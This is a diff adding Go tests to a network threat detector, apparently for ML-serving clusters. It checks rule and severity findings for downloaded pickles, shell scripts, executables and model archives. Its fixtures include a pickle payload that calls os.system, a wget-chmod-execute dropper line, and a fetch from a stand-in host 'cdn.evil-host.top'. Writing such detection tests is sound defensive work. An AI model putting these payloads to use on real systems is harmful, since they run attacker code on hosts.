@@ -253,3 +253,59 @@ func TestPrintable(t *testing.T) {
 		t.Errorf("%d findings, or not fit to print", len(w.said))
 	}
 }
+
+// What is in an archive counts like what comes by itself, and who let the fetch happen may be another than a job.
+func TestArchivesAndEntries(t *testing.T) {
+	pickle := "\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94."
+	harmless := "\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05numpy\x94\x8c\x05dtype\x94\x93\x94"
+	mar := "PK\x03\x04gz{\xd4\xe2\xc7y\x84\xaa\xb4"
+	client := &detectors.Finding{Rule: "rayclient/external", Severity: detectors.Critical, Outcome: detectors.Succeeded, Src: netip.MustParseAddr(attacker), Dst: netip.MustParseAddr(node)}
+	recon := &detectors.Finding{Rule: "rayclient/external", Severity: detectors.Medium, Outcome: detectors.Succeeded, Src: netip.MustParseAddr(attacker), Dst: netip.MustParseAddr(node)}
+	names := func(w *net) {
+		w.bus.Publish(&http.Transaction{At: w.at(), Flow: flow(attacker, node, 8081), Request: &http.Request{At: w.at(), Method: "POST", Target: "/models?url=http://" + web + ":8000/x.mar"}})
+	}
+	for _, x := range []struct {
+		says   string
+		before func(w *net)
+		host   string
+		path   string
+		agent  string
+		body   string
+		rule   string // "": nothing
+		sev    detectors.Severity
+	}{
+		{"a pickle that runs something", nil, web, "/m.pkl", "python-requests/2.31.0", pickle, ruleArchive, detectors.Medium},
+		{"a pickle that does not", nil, web, "/m.pkl", "python-requests/2.31.0", harmless, "", 0},
+		{"a script without its first line", nil, web, "/r", "curl/8.5.0", "cd /tmp; wget http://" + web + "/arm7; chmod 777 arm7; ./arm7\n", ruleScript, detectors.Medium},
+		{"a manual", nil, web, "/r", "curl/8.5.0", "To install, run curl http://x/y | sh\n", "", 0},
+		{"after Ray Client", func(w *net) { f := *client; f.At = w.at(); w.bus.Publish(&f) }, "cdn.evil-host.top", "/x", browser, elf, ruleExecutable, detectors.Medium},
+		{"after a look by Ray Client", func(w *net) { f := *recon; f.At = w.at(); w.bus.Publish(&f) }, "cdn.evil-host.top", "/x", browser, elf, "", 0},
+		{"a model that a request from outside named", names, web, "/x.mar", "Java/17", mar, ruleArchive, detectors.Medium},
+		{"an archive that nobody named", nil, web, "/x.zip", "Java/17", mar, "", 0},
+	} {
+		w := newNet(Default())
+		if x.before != nil {
+			x.before(w)
+		}
+		w.get(node, web, 80, x.host, x.path, x.agent, "application/octet-stream", x.body, 200)
+		switch {
+		case x.rule == "" && len(w.said) == 0:
+		case len(w.said) != 1 || w.said[0].Rule != x.rule || w.said[0].Severity != x.sev:
+			t.Errorf("%s: %+v", x.says, w.said)
+		}
+	}
+}
+
+// What package managers do all day is low, from a bare address, and nothing from a known place.
+func TestPackageManagers(t *testing.T) {
+	w := newNet(Default())
+	w.get(node, web, 8000, web+":8000", "/v2/library/x/manifests/latest", "docker/24.0", "application/json", "{}", 200)
+	if len(w.said) != 1 || w.said[0].Severity != detectors.Low || w.said[0].Rule != ruleArchive {
+		t.Errorf("%+v", w.said)
+	}
+	w = newNet(Default())
+	w.get(node, web, 443, "registry.example.com", "/v2/library/x/manifests/latest", "docker/24.0", "application/json", "{}", 200)
+	if len(w.said) != 0 {
+		t.Errorf("%+v", w.said)
+	}
+}
